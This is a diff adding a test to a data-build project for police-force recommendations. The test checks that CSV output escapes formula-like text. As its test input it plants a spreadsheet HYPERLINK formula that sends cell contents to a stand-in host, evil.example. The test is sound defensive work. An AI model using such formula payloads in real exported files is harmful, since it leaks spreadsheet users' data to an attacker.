@@ -468,3 +468,28 @@ def test_quiet_after_the_command_as_for_build(tmp_path):
     assert result.exit_code == 0, result.output
     assert "wrote " not in result.output  # only the summary
     assert "National overview and data built" in result.output
+
+
+def test_no_csv_cell_is_run_as_a_formula_and_the_json_is_exact(tmp_path):
+    """OWASP's CSV injection: text that starts like a formula gets a ' in the CSV, not the JSON."""
+    from csvw import Table
+
+    project = _matrix_project(tmp_path)
+    cumbria = project.report_path("cumbria")
+    hostile = '=HYPERLINK("https://evil.example/?"&A1, "click")'
+    lines = cumbria.read_text("utf-8").splitlines(keepends=True)
+    first = next(i for i, line in enumerate(lines) if line.strip().startswith("text: ensure"))
+    lines[first] = lines[first].split("text:")[0] + f"text: '{hostile}'\n"
+    cumbria.write_text("".join(lines))
+    result = invoke(project, "national")
+    assert result.exit_code == 0, result.output + result.stderr
+    data = project.build_dir / "data"
+    rows = list(csv.DictReader((data / "recommendations.csv").read_text("utf-8").splitlines()))
+    cell = next(row["text"] for row in rows if row["force_slug"] == "cumbria")
+    assert cell == "'" + hostile
+    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
+    as_json = json.loads((data / "recommendations.json").read_text("utf-8"))
+    assert hostile in [row["text"] for row in as_json]
+    metadata = data / "recommendations.csv-metadata.json"
+    assert "CSV injection" in json.loads(metadata.read_text("utf-8"))["dc:description"]
+    assert len(list(Table.from_file(metadata).iterdicts(strict=True))) == len(rows)
